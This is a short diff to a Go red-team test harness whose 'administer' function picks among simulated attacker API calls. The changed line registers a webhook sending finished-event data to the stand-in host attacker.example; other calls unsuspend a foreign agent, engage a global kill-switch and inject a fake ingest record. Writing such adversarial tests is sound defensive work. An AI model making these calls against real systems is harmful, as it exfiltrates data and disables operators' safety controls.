@@ -240,7 +240,7 @@ func decide(e *evil, dice *mathrand.Rand) attack {
 
 func administer(e *evil, dice *mathrand.Rand) attack {
 	return one(dice,
-		rest(http.MethodPost, "/api/v2/webhooks", map[string]any{"name": "out", "url": "https://attacker.example/", "eventTypes": []string{"gamebook.finished.v1"}}),
+		rest(http.MethodPost, "/api/v2/webhooks", map[string]any{"name": "out", "url": "https://attacker.example/", "eventTypes": []string{"gamebook.finished.v1"}, "workspaceIds": []string{e.world.workspace}}),
 		rest(http.MethodPost, "/api/ops/v1/agents/"+e.world.foreign.id+"/unsuspend", map[string]any{"reason": "x"}),
 		rest(http.MethodPost, "/api/ops/v1/kill-switch", map[string]any{"scope": "global", "engaged": true, "reason": "x"}),
 		rest(http.MethodPost, "/api/ops/v1/ingest/generic", map[string]any{"external_id": "evil", "source": "redteam", "title": "x", "severity": "low"}),
